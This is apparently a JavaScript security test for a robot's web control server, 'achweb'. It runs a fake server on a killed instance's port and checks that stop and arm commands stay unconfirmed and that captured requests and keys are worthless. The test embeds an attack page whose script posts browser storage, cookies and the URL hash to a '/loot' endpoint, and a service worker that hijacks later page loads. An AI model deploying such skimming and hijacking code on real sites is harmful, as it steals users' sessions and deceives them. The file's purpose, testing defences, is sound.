// impostor.mjs: another program takes the port of an achweb that was killed: what a person sees, and what it gets.
//
// The achweb is not a daemon of the robot: nothing keeps its port while it is dead.
import { execFileSync, spawn } from 'node:child_process';
import { mkdtempSync, readFileSync } from 'node:fs';
import http from 'node:http';
import { arm, ask, check, require, run, sleep, status, until } from './lib.mjs';

const { chromium } = require('playwright-core');
const { WebSocketServer } = require('ws');
const folder = mkdtempSync(process.env.HOME + '/impostor-');
const browser = await chromium.launch({ executablePath: process.env.CHROMIUM, args: ['--no-sandbox', '--disable-gpu'] });
let port = 0, achweb = null, impostor = null, page = null, loads = 0;
const frames = []; // of the genuine achweb

const ASK = `import socket, sys
s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
s.connect(sys.argv[1] + "/web")
s.send(sys.argv[2].encode())
print(s.recv(300).decode())`;
const link = (question) => new URL(execFileSync('python3', ['-c', ASK, folder, question], { encoding: 'utf8' }).trim().slice(3));

async function start(...options) {
	achweb = spawn('achweb', ['--folder', folder, '--port', String(port), ...options], { stdio: 'inherit' });
	await until('achweb', () => { // its socket of before is there until it has another
		try {
			port = Number(link('token look').port);
			return ask('http://127.0.0.1:' + port, '/', {}).then(() => true, () => false);
		} catch (error) {
			return false;
		}
	});
}

async function kill() {
	const end = new Promise((done) => { achweb.on('exit', done); });
	achweb.kill('SIGKILL');
	await end;
}

// Confirms everything, plays the genuine frames again, and serves a page and a service worker of its own.
const EVIL = `<!DOCTYPE html><p id="who">IMPOSTOR</p><script>fetch('/loot', { method: 'POST', body: JSON.stringify({ ...localStorage,
	...sessionStorage, hash: location.hash, cookie: document.cookie }) });
navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready).then(() => { document.title = 'kept'; });</script>`;
const WORKER = `self.oninstall = () => self.skipWaiting(); self.onactivate = (e) => e.waitUntil(clients.claim());
self.onfetch = (e) => { if (e.request.mode === 'navigate') e.respondWith(new Response('<p id="who">IMPOSTOR AGAIN</p>',
	{ headers: { 'Content-Type': 'text/html' } })); };`;
// At both loopback addresses, or at one; close: of every WebSocket, with these words.
function takePort(address, close) {
	const seen = [], sockets = [];
	const server = http.createServer((request, answer) => {
		let body = '';
		request.on('data', (part) => { body += part; });
		request.on('end', () => {
			seen.push({ method: request.method, url: request.url, headers: request.headers, body });
			const js = request.url === '/sw.js';
			answer.writeHead(200, { 'Content-Type': request.method === 'POST' ? 'application/json' : js ? 'text/javascript' : 'text/html' });
			answer.end(request.method === 'POST' ? '{"ok":true,"text":"level estop, shown by 2 drivers"}' : js ? WORKER : EVIL);
		});
	});
	new WebSocketServer({ server }).on('connection', (socket) => {
		sockets.push(socket);
		if (close)
			socket.close(close, 'the robot is STOPPED, safe to touch');
		socket.on('message', (claim) => {
			seen.push({ claim: String(claim) });
			frames.forEach((frame) => socket.send(frame));
		});
	});
	impostor = { seen, end: () => new Promise((done) => {
		sockets.forEach((socket) => socket.terminate());
		server.closeAllConnections();
		server.close(done);
	}) };
	return new Promise((done) => server.listen(port, address, done));
}

const text = (selector) => page.locator(selector).textContent();
const says = (selector, pattern) => until(selector + ' ' + pattern, async () => pattern.test(await text(selector)));
const post = (path, what) => page.evaluate(async ([p, w]) => (await import('/link.js')).post(p, w), [path, what]);
const HOME = { do: 'restart', name: 'waist' };
let collected = [];

await run({
	async stop_and_arm_at_an_impostor_are_not_confirmed() {
		await arm();
		await start();
		page = await (await browser.newContext()).newPage();
		page.on('load', () => loads++);
		page.on('websocket', (socket) => socket.on('framereceived', (frame) => frames.length < 20 && frames.push(frame.payload)));
		await page.goto(link('token act').href);
		await says('#level', /run/);
		check(/^[0-9a-f]{16}\.localhost$/.test(new URL(page.url()).hostname), page.url());
		await kill();
		await takePort();
		await page.click('#stop');
		await says('#alarm', /STOP NOT CONFIRMED: ANOTHER PROGRAM answers in place of achweb/);
		await says('#line', /NO DATA.*ANOTHER PROGRAM answers in place of achweb/);
		const answer = await post('/act', HOME);
		check(answer.ok === undefined && /^ANOTHER PROGRAM/.test(answer.text), JSON.stringify(answer));
		await page.evaluate(async (a) => (await import('/act.js')).result(a, 'arm'), answer);
		await says('#said', /^arm NOT CONFIRMED: ANOTHER PROGRAM/);
		check(!/confirmed: /.test(await text('#alarm')), await text('#alarm'));
		await until('its last attempt', () => impostor.seen.filter((one) => one.url === '/stop').length === 6);
		check(status().level === 'run', 'the robot was stopped');
		collected = impostor.seen;
		check(collected.some((one) => one.url === '/stop') && collected.some((one) => one.url === '/act') &&
			collected.some((one) => one.claim), 'it got nothing');
		check(!collected.some((one) => one.headers && (one.headers.cookie || one.headers.authorization)), 'a cookie');
	},
	async what_an_impostor_collected_is_worth_nothing() {
		const before = status();
		await impostor.end();
		await start();
		for (const one of collected.filter((each) => each.method === 'POST')) {
			const got = await ask('http://' + one.headers.host, one.url, { Origin: one.headers.origin, 'X-Endplate':
				one.headers['x-endplate'], 'Content-Type': 'application/json' }, 'POST', one.body);
			check([401, 409].includes(got.status), one.url + ' again: ' + got.status + ' ' + got.text);
		}
		check(status().level === 'run' && status().epoch === before.epoch, 'the robot was stopped by it');
		const pid = (all) => all.daemons.find((one) => one.name === 'waist').pid;
		check(pid(status()) === pid(before), 'a driver was restarted by it');
		for (const secret of [readFileSync(folder + '/web.sessions', 'utf8').match(/[0-9a-f]{64}/g)].flat())
			check(!JSON.stringify(collected).includes(secret), 'a key was sent');
	},
	async an_open_page_recovers_without_a_reload() {
		await until('data', async () => (await text('#level')).includes('run') && !/NO DATA/.test(await text('#line')));
		await page.click('#stop');
		await says('#alarm', /STOP confirmed/);
		check(status().level === 'estop', 'not stopped');
		const answer = await post('/act', HOME);
		check(answer.ok === true, JSON.stringify(answer));
		check(loads === 1, loads + ' loads');
		await arm();
	},
	async words_of_an_impostor_are_not_shown() {
		for (const [code, why] of [[1008, /ended, or ANOTHER PROGRAM answers/], [1013, /too many pages are open, or ANOTHER/],
			[1000, /the connection was closed/], [4000, /the connection was closed/]]) {
			await kill();
			await takePort(undefined, code);
			try {
				await until('its close ' + code, async () => why.test(await text('#line')) || /safe to/.test(await text('#line')));
				const shown = await page.textContent('body');
				check(!/safe to touch/.test(shown), code + ': ' + shown);
				await says('#level', /unknown/);
				check(await page.isVisible('#login') === (code === 1008), 'the box to log in at ' + code);
			} finally {
				await impostor.end();
				await start();
			}
			await says('#level', /run/);
			check(!await page.isVisible('#login'), 'the box to log in stays');
		}
		check(loads === 1, loads + ' loads');
	},
	async a_reload_at_an_impostor_gives_no_key_to_act() {
		await kill();
		await takePort();
		await page.reload();
		await says('#who', /IMPOSTOR/);
		const { body } = await until('its loot', () => impostor.seen.find((one) => one.url === '/loot'));
		const [, look] = /"endplate-session":"[0-9a-f]{32} ([0-9a-f]{64})"/.exec(body), keys = body.match(/[0-9a-f]{64}/g);
		check(keys.length === 1, 'more than the key to look: ' + body);
		const [, act] = new RegExp(look + ' ([0-9a-f]{64}) 3 ').exec(
			readFileSync(folder + '/web.sessions', 'utf8'));
		check(!body.includes(act), 'the key to act');
	},
	async a_new_link_has_a_name_that_no_impostor_had() {
		await until('its service worker', async () => await page.title() === 'kept');
		await impostor.end();
		await start();
		const other = await page.context().newPage();
		await other.goto(link('token look').href);
		await until('the robot', async () => (await other.locator('#level').textContent()).includes('run'));
		check(await other.locator('#who').count() === 0, 'the page of the impostor');
	},
	// A name below localhost may be ::1, which is free here.
	async a_link_leads_to_no_address_that_achweb_does_not_hold() {
		await page.context().close(); // its pages would connect there
		await kill();
		await takePort('::1');
		await start('--listen', '127.0.0.1');
		const other = await (await browser.newContext()).newPage();
		await other.goto(link('token act').href);
		await until('the robot', async () => (await other.locator('#level').textContent()).includes('run'));
		check(impostor.seen.length === 0, JSON.stringify(impostor.seen));
		await impostor.end();
	},
});
achweb.kill('SIGTERM');
await sleep(200);
await browser.close();
process.exit(0);
